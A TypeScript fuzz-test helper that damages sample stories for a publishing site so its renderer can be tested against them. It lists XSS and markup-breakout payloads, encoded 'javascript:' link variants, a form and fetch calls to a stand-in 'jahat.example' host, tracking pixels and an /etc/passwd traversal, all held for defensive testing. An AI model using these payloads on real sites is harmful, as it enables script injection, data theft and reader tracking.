// Random but reproducible damage to good stories: what careless editors, broken
// tools and hostile contributors produce. Used by fuzz.test.ts.

import { seededRandom } from '../../scripts/lib/random.ts';

/** A seeded PRNG (mulberry32): the same seed gives the same mutations on every machine. */
export const createRng = seededRandom;

type Rng = () => number;
const pick = <T>(rng: Rng, list: readonly T[]): T => list[Math.floor(rng() * list.length)];
const int = (rng: Rng, max: number) => Math.floor(rng() * max);

/** Constructs that must never reach a reader as code, a foreign request or a broken page. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src="https://jahat.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<iframe src="https://jahat.example/"></iframe>',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<object data="https://jahat.example/x.swf"></object>',
  '<embed src="https://jahat.example/x.swf" />',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://jahat.example/x.css" />',
  '<base href="https://jahat.example/" />',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" />',
  '<form action="https://jahat.example/curi"><button>Kirim</button></form>',
  '<details open ontoggle="alert(1)">x</details>',
  '<a href="javascript:alert(1)">klik</a>',
  '<PullQuote by="x" onClick="alert(1)">q</PullQuote>',
  '<PullQuote by={alert(1)}>q</PullQuote>',
  '<PullQuote {...{onClick: () => alert(1)}}>q</PullQuote>',
  '<Figure caption="javascript:alert(1)">x</Figure>',
  '{alert(1)}',
  '{/* rahasia */}',
  'import x from "https://jahat.example/x.js"',
  'export const x = fetch("https://jahat.example/")',
  '<!-- catatan -->',
  '<!--><script>alert(1)</script>-->',
  '[klik](javascript:alert(1))',
  '[klik](JaVaScRiPt:alert(1))',
  '[klik](&#106;avascript:alert(1))',
  '[klik](&#x6A;avascript&#58;alert(1))',
  '[klik](java&#x09;script:alert(1))',
  '[klik](%6a%61vascript:alert(1))',
  '[klik](vbscript:msgbox(1))',
  '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[klik][r]\n\n[r]: javascript:alert(1)',
  '![foto](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![foto](https://pelacak.example/p.gif)',
  '![foto][p]\n\n[p]: https://pelacak.example/p.gif',
  '![foto](//pelacak.example/p.gif)',
  '![foto](../../../../etc/passwd)',
  '<Peta kota="Bandung" />',
  '<md-search></md-search>',
];

/** Text that is legal but tries to break out of wherever it is printed (titles, captions, JSON-LD, meta tags). */
export const BREAKOUTS = [
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</title><script>alert(1)</script>',
  '<!--',
  ']]>',
  '\\u003cscript\\u003e',
  '{{7*7}} ${7*7}',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '</style><script>alert(1)</script>',
  '\u2028\u2029',
];

/** Characters that confuse parsers. */
const NOISE = ['{', '}', '<', '>', '[', ']', '(', ')', '!', '`', '*', '_', '#', '|', ':', '"', "'", '&', '\\', '---', '\n', '\n\n', '    '];
/** Characters nobody should type: C0/C1 controls and bidi overrides. */
const CONTROL = ['\u0000', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085', '\u202e', '\u2066', '\ufeff', '\u200b'];

/** Entity- and percent-encoded spellings of `javascript:`, built at random. */
function encodedScheme(rng: Rng): string {
  return [...'javascript:']
    .map((ch) => {
      const r = rng();
      if (r < 0.2) return `&#${ch.charCodeAt(0)};`;
      if (r < 0.35) return `&#x${ch.charCodeAt(0).toString(16)};`;
      if (r < 0.45) return `&#${'0'.repeat(int(rng, 6))}${ch.charCodeAt(0)}`;
      if (r < 0.55) return `%${ch.charCodeAt(0).toString(16)}`;
      if (r < 0.62) return pick(rng, ['&Tab;', '&NewLine;', '&#9;', '&#x0a;']) + ch;
      if (ch === ':' && r < 0.75) return '&colon;';
      return rng() < 0.5 ? ch.toUpperCase() : ch;
    })
    .join('');
}

/** Positions inside the body (after the front matter), so most mutants still parse as stories. */
function bodyStart(src: string): number {
  const m = /^---\r?\n[\s\S]*?\r?\n---\r?\n/.exec(src);
  return m ? m[0].length : 0;
}
const insertAt = (src: string, at: number, text: string) => src.slice(0, at) + text + src.slice(at);
/** A random line boundary in the body. */
function bodyLine(rng: Rng, src: string): number {
  const start = bodyStart(src);
  const breaks = [...src.slice(start).matchAll(/\n/g)].map((m) => start + m.index + 1);
  return breaks.length ? pick(rng, breaks) : src.length;
}

/** One way of damaging a story. */
interface Operator {
  name: string;
  apply: (rng: Rng, src: string) => string;
}

const OPERATORS: readonly Operator[] = [
  { name: 'hostile block', apply: (rng, src) => insertAt(src, bodyLine(rng, src), `\n${pick(rng, HOSTILE)}\n\n`) },
  { name: 'hostile inline', apply: (rng, src) => insertAt(src, bodyStart(src) + int(rng, src.length - bodyStart(src)), pick(rng, HOSTILE)) },
  { name: 'encoded scheme link', apply: (rng, src) => insertAt(src, bodyLine(rng, src), `\nBaca [di sini](${encodedScheme(rng)}alert(1)).\n\n`) },
  {
    name: 'noise',
    apply: (rng, src) => {
      let out = src;
      for (let i = 0, n = 1 + int(rng, 5); i < n; i++) out = insertAt(out, bodyStart(out) + int(rng, out.length - bodyStart(out) + 1), pick(rng, NOISE));
      return out;
    },
  },
  { name: 'control character', apply: (rng, src) => insertAt(src, int(rng, src.length), pick(rng, CONTROL)) },
  { name: 'truncate', apply: (rng, src) => src.slice(0, int(rng, src.length)) },
  {
    name: 'front matter breakout',
    // Legal YAML strings that try to escape HTML attributes, <title>, JSON-LD and the poster.
    apply: (rng, src) =>
      src.replace(/^(title|lede|alt|credit|headline|callToAction): *(.*)$/m, (_m, key: string, value: string) => `${key}: ${JSON.stringify(`${value.replace(/^"|"$/g, '').slice(0, 40)} ${pick(rng, BREAKOUTS)}`)}`),
  },
  {
    name: 'component attribute breakout',
    apply: (rng, src) => insertAt(src, bodyLine(rng, src), `\n<PullQuote by=${JSON.stringify(pick(rng, BREAKOUTS))}>Kutipan ${pick(rng, BREAKOUTS).replace(/[<>{}]/g, '')}</PullQuote>\n\n`),
  },
  {
    name: 'yaml breakage',
    apply: (rng, src) => {
      const end = bodyStart(src);
      if (!end) return src;
      const fm = src.slice(0, end);
      const broken = pick(rng, [
        () => fm.replace(/: /, ' '),
        () => fm.replace(/\n(\w)/, '\n  $1'),
        () => fm.replace(/"/, ''),
        () => fm.replace(/\ntopics:/, '\ntopics: [upah\n_x:'),
        () => fm.replace(/\ndate: .*/, `\ndate: ${pick(rng, ['2026-13-45', 'kemarin', '2026-02-30', '[2026]', '"2026-10-01"', '2026-10-01T25:00:00Z'])}`),
        () => fm.replace(/\ntitle: .*/, `\ntitle: ${pick(rng, ['[a, b]', '{a: 1}', '123', 'true', '&a [*a]', '!!js/function "f(){}"', '"     "', "''", '~'])}`),
        () => fm.replace(/\nauthors: .*/, `\nauthors: ${pick(rng, ['[siapa]', 'redaksi', '[]', '[Redaksi]', '[../x]'])}`),
        () => fm.replace(/---\r?\n$/, ''),
        () => fm.replace(/\nplace: .*/, '\nplace: karawang\nplace: bandung'),
        () => insertAt(fm, 4, `${pick(rng, ['draft: maybe', 'layout: ../x.astro', 'judul: x', 'cover: ./x.jpg'])}\n`),
      ])();
      return broken + src.slice(end);
    },
  },
  { name: 'duplicate line', apply: (rng, src) => { const lines = src.split('\n'); const i = int(rng, lines.length); lines.splice(i, 0, lines[i]); return lines.join('\n'); } },
  { name: 'swap lines', apply: (rng, src) => { const lines = src.split('\n'); const i = int(rng, lines.length); const j = int(rng, lines.length); [lines[i], lines[j]] = [lines[j], lines[i]]; return lines.join('\n'); } },
  { name: 'unicode', apply: (rng, src) => insertAt(src, bodyLine(rng, src), `${pick(rng, ['Pekerja 👩‍🏭 mogok.', 'ẞ ǅ ﬁ', 'مرحبا', 'e\u0301\u0301\u0301', '\u00a0\u00a0', 'Rp1.000.000,-'])}\n\n`) },
];

/** One mutant: the damaged source and what was done to it. */
export interface Mutant {
  source: string;
  ops: string[];
}

/** Apply one to three random operators to a good story. */
export function mutate(rng: Rng, source: string): Mutant {
  let out = source;
  const ops: string[] = [];
  for (let i = 0, n = 1 + int(rng, 3); i < n; i++) {
    const op = pick(rng, OPERATORS);
    out = op.apply(rng, out);
    ops.push(op.name);
  }
  return { source: out, ops };
}
